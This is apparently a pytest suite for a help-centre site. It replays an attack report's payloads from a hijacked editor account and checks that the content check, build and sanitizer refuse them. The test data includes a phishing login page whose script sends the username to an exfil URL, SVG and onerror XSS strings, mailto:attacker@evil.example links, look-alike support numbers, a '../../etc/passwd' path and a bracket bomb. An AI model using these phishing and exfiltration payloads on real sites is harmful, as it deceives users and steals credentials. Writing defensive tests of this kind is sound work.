"""What a hijacked editor account tried, refused by `make check` and by every build.

Each payload below was written into a copy of the real content by an attacker with an
editor's rights and got through (the attack report's findings 1, 2, 3 and 15): a script
file beside the pages, an answer taking another answer's permanent id, an answer dressed as
the site's support box, and look-alike support numbers and addresses. Each must now be
refused with file, line and a fix, and the sanitizer must drop the forged classes even
where the check is skipped.
"""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from helpcentre.content import check, read_sources
from helpcentre.docsfiles import THEME_ASSETS
from helpcentre.fragments import mark_body, take_bodies
from helpcentre.sanitize import clean
from sitetools import ROOT, copy_project

# -- helpers ---------------------------------------------------------------------------------

LOGIN_ANSWER = "      For security reasons, we always recommend that you log in with MitID.\n"


def _problems(project: Path) -> list[str]:
    return [str(problem) for problem in check(read_sources(project))]


def _add_entry(project: Path, ident: str, answer: str, *, first: bool = False) -> int:
    """Add an entry (and its id to links.lock); returns the faq.yml line of the answer's first line."""
    body = "".join(f"      {line}\n" if line else "\n" for line in answer.split("\n"))
    entry = (f"  - id: {ident}\n    category: logging-in\n    question: Payload {ident}\n    answer: |\n{body}"
             "    keywords: [payload]\n    reviewed: 2026-11-25\n    owner: IT support\n\n")
    faq = project / "faq.yml"
    text = faq.read_text(encoding="utf-8")
    anchor = "  - id: login-password\n" if first else "  - id: supported-browsers\n"
    text = text.replace(anchor, entry + anchor, 1)
    faq.write_text(text, encoding="utf-8")
    lock = project / "links.lock"
    lock.write_text(lock.read_text(encoding="utf-8") + ident + "\n", encoding="utf-8")
    return text[: text.index(f"  - id: {ident}\n")].count("\n") + 5


def _edit_login_answer(project: Path, extra: str) -> int:
    """Add a paragraph to the login answer; returns its faq.yml line."""
    faq = project / "faq.yml"
    text = faq.read_text(encoding="utf-8")
    assert LOGIN_ANSWER in text
    text = text.replace(LOGIN_ANSWER, LOGIN_ANSWER + "\n      " + extra + "\n", 1)
    faq.write_text(text, encoding="utf-8")
    return text[: text.index(extra)].count("\n") + 1


def _mkdocs_build(project: Path, site: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(site)],
        cwd=project, capture_output=True, text=True, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"}, timeout=180)


# -- finding 1: no file beside the pages can carry code -------------------------------------

PHISHING_PAGE = ('<!doctype html><title>Log in again</title><form id="f"><input name="user">'
                 '<input name="pw" type="password"><button>Log in with MitID</button></form>'
                 '<script src="account-check.js"></script>\n')
PHISHING_SCRIPT = ("document.title = 'PWNED-js-file'; window.__pwned = 'docs-js';\n"
                   "document.getElementById('f').addEventListener('submit', function (e) {\n"
                   "  location.href = 'http://localhost:8799/exfil?u=' + this.user.value; });\n")
SCRIPT_IN_SVG = ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script>'
                 '<circle r="5"/></svg>\n')

EDITOR_FILES = {
    "docs/account-check.html": PHISHING_PAGE,
    "docs/account-check.js": PHISHING_SCRIPT,
    "docs/notice.svg": SCRIPT_IN_SVG,
    "docs/assets/javascripts/extra.js": PHISHING_SCRIPT,  # beside the site's own scripts
    "docs/assets/stylesheets/extra.css": ".hc-support { display: none }\n",
    "docs/claims/help.htm": PHISHING_PAGE,
    "docs/.well-known/x.xml": "<x/>\n",
    "docs/photo.png": PHISHING_PAGE,  # named like a picture, but a web page
}


@pytest.mark.parametrize("name", sorted(EDITOR_FILES))
def test_a_file_an_editor_adds_under_docs_is_refused_at_its_line_1(tmp_path, name):
    project = copy_project(tmp_path / "project")
    target = project / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(EDITOR_FILES[name], encoding="utf-8")
    problems = [p for p in _problems(project) if p.startswith(f"{name}:1: ")]
    assert problems, _problems(project)
    assert "remove this file" in problems[0] or "save the picture again" in problems[0]
    assert ".md" in problems[0] or "picture" in problems[0]


def test_pictures_and_pages_are_welcome_under_docs(tmp_path):
    project = copy_project(tmp_path / "project")
    pictures = {
        "docs/images/screen.png": b"\x89PNG\r\n\x1a\n" + bytes(32),
        "docs/images/photo.JPG": b"\xff\xd8\xff\xe0" + bytes(32),
        "docs/images/anim.gif": b"GIF89a" + bytes(32),
        "docs/images/new.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 " + bytes(32),
        "docs/images/new.avif": b"\x00\x00\x00\x1cftypavif" + bytes(32),
    }
    for name, data in pictures.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_bytes(data)
    assert not [p for p in _problems(project) if p.startswith("docs/")]


def test_the_sites_own_assets_are_listed_in_one_place_and_exist():
    listed = {f"assets/{path.relative_to(ROOT / 'docs' / 'assets').as_posix()}"
              for path in (ROOT / "docs" / "assets").rglob("*") if path.is_file()}
    assert listed == set(THEME_ASSETS)


def test_the_build_refuses_a_script_page_an_answer_links_to(tmp_path):
    """The attacker's whole chain: a page and script under docs/, an answer linking to it."""
    project = copy_project(tmp_path / "project")
    (project / "docs" / "account-check.html").write_text(PHISHING_PAGE, encoding="utf-8")
    (project / "docs" / "account-check.js").write_text(PHISHING_SCRIPT, encoding="utf-8")
    _add_entry(project, "xb6", "Your session has expired: [log in again](../account-check.html)"
                               "{ .md-button .md-button--primary }")
    result = _mkdocs_build(project, tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Traceback" not in output
    assert "docs/account-check.js:1: " in output and "docs/account-check.html:1: " in output
    assert not (tmp_path / "site" / "account-check.js").exists()
    assert "load the script from a file under docs/assets" not in output


def test_codeowners_gives_everything_but_content_to_the_developers():
    owners = (ROOT / ".github" / "CODEOWNERS").read_text(encoding="utf-8")
    rules = [line.split() for line in owners.splitlines() if line.strip() and not line.startswith("#")]
    assert rules[0][0] == "*" and len(rules[0]) > 1, "everything belongs to the developers first"
    content = {rule[0] for rule in rules if len(rule) == 1}  # no owner: any editor's change, reviewed as usual
    for path in ("/faq.yml", "/snippets.yml", "/support.yml", "/search-synonyms.yml", "/portal-screens.yml",
                 "/links.lock", "/docs/**/*.md"):
        assert path in content, path
    # Nothing under docs/assets/ is given away by a later, broader rule.
    assert not any(rule[0].startswith("/docs/assets") for rule in rules if len(rule) == 1)


# -- finding 2: an id written in content cannot take an answer's permanent link -------------

@pytest.mark.parametrize("written", [
    "## Forgot your password? {#login-password}",
    "## Forgot your password? { #login-password .hc-x }",
    "Call us [here](https://example.com){ .md-button #login-password }",
    '<span id="login-password"></span>Forgot your password?',
    "<span id=payment-guarantees></span>Forgot?",
    '<a name="logging-in">x</a>',  # a category's id
])
def test_an_answer_cannot_take_another_answers_id(tmp_path, written):
    project = copy_project(tmp_path / "project")
    line = _add_entry(project, "xb7", written + "\n\nCall our new number 12 34 56 78.", first=True)
    problems = [p for p in _problems(project) if "belongs to the answer declared at" in p]
    assert problems, _problems(project)
    assert problems[0].startswith(f"faq.yml:{line}: entry 'xb7'"), problems
    assert "/go/" in problems[0] and "choose an id" in problems[0]


def test_an_id_taken_in_a_hand_written_page_or_snippet_is_refused(tmp_path):
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "index.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n[Log in](https://example.com){ .md-button #upload-file }\n",
                    encoding="utf-8")
    snippets = project / "snippets.yml"
    text = snippets.read_text(encoding="utf-8")
    snippets.write_text(text + "\nhijack:\n  text: \"<span id='login-password'></span>Hi\"\n", encoding="utf-8")
    problems = _problems(project)
    lines = page.read_text(encoding="utf-8").count("\n")
    assert any(p.startswith(f"docs/index.md:{lines}: ") and "'upload-file' belongs" in p for p in problems), problems
    assert any(p.startswith("snippets.yml:") and "'login-password' belongs" in p for p in problems), problems


def test_the_build_refuses_the_hijacked_heading(tmp_path):
    project = copy_project(tmp_path / "project")
    line = _add_entry(project, "xb7", "## Forgot your password? {#login-password}\n\n"
                      "Call our new number 12 34 56 78 or [log in here](https://evil.example/mitid)"
                      "{ .md-button .md-button--primary }", first=True)
    result = _mkdocs_build(project, tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in output
    assert f"faq.yml:{line}: entry 'xb7'" in output and "login-password" in output


# -- finding 3: content cannot dress as the site's support box ------------------------------

FORGED_SUPPORT_BOX = ('<div class="hc-support" markdown>\n\n**IT support has a new number:** call 12 34 56 78. '
                      '<span class="hc-support__status hc-support__status--open">Open now</span>\n\n</div>')


def test_the_forged_support_box_is_refused_naming_each_class(tmp_path):
    project = copy_project(tmp_path / "project")
    line = _add_entry(project, "xc1", FORGED_SUPPORT_BOX)
    problems = [p for p in _problems(project) if p.startswith("faq.yml:") and "entry 'xc1'" in p]
    for name in ("hc-support", "hc-support__status", "hc-support__status--open"):
        assert any(f"'{name}'" in p for p in problems), (name, problems)
    assert all(p.startswith(f"faq.yml:{line}") or p.startswith(f"faq.yml:{line + 2}") for p in problems), problems


def test_a_status_line_written_by_hand_is_refused(tmp_path):
    """The sanitizer keeps the status line's class on a <p>, where {{ support-contact }} puts
    it; written by hand, the check refuses it."""
    project = copy_project(tmp_path / "project")
    line = _add_entry(project, "xc2", '<p class="hc-support__status">Open now</p>')
    problems = [p for p in _problems(project) if "'hc-support__status' is not allowed in an answer" in p]
    assert problems and problems[0].startswith(f"faq.yml:{line}: entry 'xc2'"), _problems(project)
    _edit_login_answer(project, 'Press <strong class="hc-ui">Save</strong>, or <a class="md-button" '
                                'href="https://example.com">go</a>.')
    assert not [p for p in _problems(project) if "entry 'login-password'" in p and "class" in p]


@pytest.mark.parametrize("name", ["hc-support", "hc-support__status", "hc-landed", "hc-no-results", "hc-feedback",
                                  "hc-search", "hc-cards", "hc-copy__button", "hc-related", "hc-reviewed",
                                  "hc-answer", "md-banner", "md-typeset"])
def test_the_sanitizer_drops_the_sites_own_classes_from_an_answers_body(name):
    html = f'<div class="{name} note"><span class="{name}">Open now</span></div>'
    body = take_bodies(f"<h2>Q</h2>\n{mark_body('xc1', html)}", "/logging-in/")
    page, bodies = body
    assert name not in bodies["xc1"] and name not in page
    assert 'class="note"' in bodies["xc1"]


def test_the_sites_own_markup_keeps_its_classes():
    status = '<p class="hc-support__status" data-support-status data-schedule="x" hidden></p>'
    assert 'class="hc-support__status"' in clean(status, page=False)
    assert 'class="hc-ui"' in clean('<strong class="hc-ui">Save</strong>', page=False)
    assert 'class="hc-lead"' in clean('<p class="hc-lead">Hi</p>')
    assert 'class="hc-lead"' not in clean('<p class="hc-lead">Hi</p>', page=False)
    assert 'class="md-button md-button--primary"' in clean(
        '<a class="md-button md-button--primary" href="https://example.com">Go</a>', page=False)


# -- finding 15: look-alike support numbers and addresses -----------------------------------

# Each: what an editor adds to the login answer, and the words of the problem it must raise.
LOOK_ALIKE_CONTACTS = [
    ("If MitID fails, call our IT support on [7O 2O 61 21](tel:+4512345678).", "look-alike characters ('7O 2O 61 21')"),
    ("Call 70 20 61 2\uff11 for help.", "look-alike characters"),  # a full-width one
    ("Call \uff17\uff10\uff12\uff10\uff16\uff11\uff12\uff11 for help.", "look-alike characters"),
    ("Call 70 20 6l 2l for help.", "look-alike characters ('70 20 6l 2l')"),
    ("Call 70\u00a020\u00a061\u00a021 for help.", "support phone number is typed"),
    ("Write to support\uff20primora-it.dk.", "support email address is typed into the text with look-alike"),
    ("Write to support@primora-lt.dk.", "looks like the support email address but is another"),
    ("Write to supp0rt@primora-it.dk.", "looks like the support email address but is another"),
    ("[Call IT support](tel:+4512345678)", "a 'tel:' link is typed into the text"),
    ("[Email IT support](mailto:attacker@evil.example)", "a 'mailto:' link is typed into the text"),
    ("[support\uff20primora-it.dk](mailto:attacker@evil.example)", "a 'mailto:' link is typed"),
    ('<a href="tel:+4512345678">70 20 61 21</a>', "a 'tel:' link is typed"),
    ("<mailto:attacker@evil.example>", "a 'mailto:' link is typed"),
    ("[x](TEL:+4512345678)", "a 'tel:' link is typed"),
]


def test_the_support_contact_written_with_snippets_is_fine(tmp_path):
    project = copy_project(tmp_path / "project")
    _edit_login_answer(project, "Call {{ phone }} or write to {{ email }}; the case number is 7020 61 2a. "
                                "[Details](https://example.com/a#b), and [here](#own-place) {#own-place}")
    assert not [p for p in _problems(project) if p.startswith("faq.yml")], _problems(project)


# -- finding 8: what the build refuses, the check refuses first, in plain words -------------

LINKS_THE_BUILD_STOPS_AT = [
    ("[Log in](/\\localhost:8799/phish30)", "leaves the help centre"),
    ("[x](\\u006aavascript:alert(60))", "is not an address the build can check"),
    ("[x](%6aavascript:alert(61))", "points to a file beside the pages"),
    ("[Log in](//localhost:8799/phish29)", "starts with '//'"),  # finding 5
    ('<a href="//localhost:8799/phish29">Log in</a>', "starts with '//'"),
    ("[log in again](../account-check.html){ .md-button .md-button--primary }", "points to a file beside the pages"),
    ("[Log in](/login)", "is not an address the build can check"),
    ("See [below](#nosuch).", "the link to '#nosuch' points to a place that may not be on the answer's page"),
    ('See <a href="#login-password">above</a>.', "link to an answer with (id:login-password)"),
]


@pytest.mark.parametrize("extra, message", [*LOOK_ALIKE_CONTACTS, *LINKS_THE_BUILD_STOPS_AT])
def test_an_edit_the_site_must_not_take_is_refused_at_its_line(tmp_path, extra, message):
    # A look-alike support contact (finding 15), or a link the build would stop at (finding 8):
    # `make check` names the file, the line the editor changed and the answer.
    project = copy_project(tmp_path / "project")
    line = _edit_login_answer(project, extra)
    problems = [p for p in _problems(project) if message in p]
    assert problems, _problems(project)
    assert problems[0].startswith(f"faq.yml:{line}: entry 'login-password'"), problems


@pytest.mark.parametrize("front, message, line", [
    ("title: How can we help?\ntemplate: nosuch.html", "sets 'template', which a page may not set", 3),
    ("title: How can we help?\ntemplate: ../../etc/passwd", "sets 'template'", 3),
    ("title: How can we help?\ntemplate: 404.html", "sets 'template'", 3),
    ("title: [1, 2]", "title must be words", 2),
    ("title: How can we help?\ndescription: [1]", "description must be words", 3),
    ("title: How can we help?\nhide: yes", "'hide' must list some of", 3),
])
def test_front_matter_the_build_cannot_use_is_refused(tmp_path, front, message, line):
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "index.md"
    text = page.read_text(encoding="utf-8")
    body = text.split("\n---\n", 1)[1]
    page.write_text(f"---\n{front}\n---\n{body}", encoding="utf-8")
    problems = [p for p in _problems(project) if message in p]
    assert problems and problems[0].startswith(f"docs/index.md:{line}: "), _problems(project)


def test_a_page_outside_the_navigation_is_refused(tmp_path):
    project = copy_project(tmp_path / "project")
    (project / "docs" / "xss").mkdir()
    (project / "docs" / "xss" / "xdo28.md").write_text("# A page\n\nText.\n", encoding="utf-8")
    assert any(p.startswith("docs/xss/xdo28.md:1: the page is not in the site's navigation") for p in _problems(project))


def test_text_inside_an_attribute_is_not_taken_for_an_event_handler():
    from helpcentre import security

    page = (security.PLACEHOLDER + '<span title="&lt;img src=x onerror=alert(68)&gt;">x</span>'
            '<a title="a onclick=b" href="https://example.com">y</a>')
    assert security.blocked(page, set()) == []
    assert security.blocked(security.PLACEHOLDER + '<img src=x onerror="alert(1)">', set())
    assert security.blocked(security.PLACEHOLDER + '<a href=" JaVaScript:alert(1)">x</a>', set())


def test_the_build_stops_at_the_checks_message_and_never_a_traceback(tmp_path):
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "index.md"
    page.write_text(page.read_text(encoding="utf-8").replace("title: How can we help?\n",
                                                             "title: How can we help?\ntemplate: nosuch.html\n", 1),
                    encoding="utf-8")
    line = _edit_login_answer(project, "[Log in](/\\localhost:8799/phish30)")
    result = _mkdocs_build(project, tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Traceback" not in output and "TemplateNotFound" not in output, output
    assert "contact/index.md" not in output, output
    assert "docs/index.md:3: " in output and f"faq.yml:{line}: " in output, output


# -- findings 6, 7 and 10: plain-text fields, and brackets nested to stall the check --------

@pytest.mark.parametrize("file, old, new, line_of", [
    ("support.yml", "    choice: technical support",
     '    choice: "<img src=x onerror=alert(150)> technical <b>support</b>"', "onerror=alert(150)"),
    ("portal-screens.yml", "    title: Log in\n", '    title: "Log in <img src=x onerror=alert(130)>"\n', "alert(130)"),
    ("portal-screens.yml", "    title: Log in\n", '    title: "Log in &lt;b&gt;"\n', "&lt;b"),
])
def test_html_in_a_plain_text_field_outside_faq_is_refused(tmp_path, file, old, new, line_of):
    project = copy_project(tmp_path / "project")
    target = project / file
    text = target.read_text(encoding="utf-8")
    assert old in text
    text = text.replace(old, new, 1)
    target.write_text(text, encoding="utf-8")
    line = text[: text.index(line_of)].count("\n") + 1
    problems = [p for p in _problems(project) if "is plain text, but holds HTML" in p]
    assert problems and problems[0].startswith(f"{file}:{line}: "), _problems(project)


def test_plain_words_with_an_ampersand_are_fine_in_the_menu(tmp_path):
    project = copy_project(tmp_path / "project")
    target = project / "support.yml"
    target.write_text(target.read_text(encoding="utf-8").replace(
        "choice: technical support", "choice: technical support & logging in", 1), encoding="utf-8")
    assert not [p for p in _problems(project) if "holds HTML" in p]


@pytest.mark.parametrize("depth", [9800, 30000])  # under the 20,000-character limit, and over it
def test_nested_brackets_are_refused_at_once(tmp_path, depth):
    """Before, 9,800 took the check 46 s (and the build 56 s); 30,000 ran for minutes."""
    import time

    project = copy_project(tmp_path / "project")
    faq = project / "faq.yml"
    text = faq.read_text(encoding="utf-8")
    bomb = "[" * depth + "x" + "]" * depth + "(https://a.b)"
    faq.write_text(text.replace(LOGIN_ANSWER, LOGIN_ANSWER + "\n      " + bomb + "\n", 1), encoding="utf-8")
    started = time.perf_counter()
    problems = _problems(project)
    took = time.perf_counter() - started
    assert any("nested more than 32 deep" in p and p.startswith("faq.yml:") for p in problems), problems
    assert took < 15, f"the check took {took:.1f} s"


@pytest.mark.parametrize("href", ["//localhost:8799/phish29", "/\\localhost:8799/phish30", " //evil.example",
                                  "\\\\evil.example/x"])
def test_the_sanitizer_drops_links_to_another_host_without_a_scheme(href):
    """Finding 5: the API made '//host' an http:// link to another host."""
    html = f'<p><a href="{href}">Log in</a> <img src="{href}" alt="x"></p>'
    cleaned = clean(html, page=False)
    assert "localhost" not in cleaned and "evil" not in cleaned, cleaned
    page, bodies = take_bodies(mark_body("xb9", html), "http://127.0.0.1:8000/logging-in/")
    assert "http://" not in bodies["xb9"] and "localhost" not in page


@pytest.mark.parametrize("question", ["[Log in](/\\localhost:8799/phish30)", "[x](%6aavascript:alert(61))",
                                      "Why is `code` and *this* ![i](x.png) here?"])
def test_a_question_is_words_never_markdown(tmp_path, question):
    """A question holding Markdown link syntax passed the check, then the strict build
    stopped at the link it became in the heading (a message about a generated page)."""
    from helpcentre.content import load_help_centre
    from helpcentre.render import Renderer
    from helpcentre.rendercheck import site_markdown

    project = copy_project(tmp_path / "project")
    faq = project / "faq.yml"
    text = faq.read_text(encoding="utf-8")
    old = "    question: Which browsers can I use?\n"
    assert old in text
    faq.write_text(text.replace(old, f"    question: '{question}'\n", 1), encoding="utf-8")
    assert not [p for p in _problems(project) if p.startswith("faq.yml")]
    renderer = Renderer(load_help_centre(project))
    page = next(p for p in renderer.pages() if "supported-browsers" in p.markdown)
    html = site_markdown(project)(page.markdown)
    heading = next(line for line in html.splitlines() if 'id="supported-browsers"' in line)
    assert "<a " not in heading and "<code>" not in heading and "<em>" not in heading and "<img" not in heading
    import html as html_module
    assert question in html_module.unescape(heading)
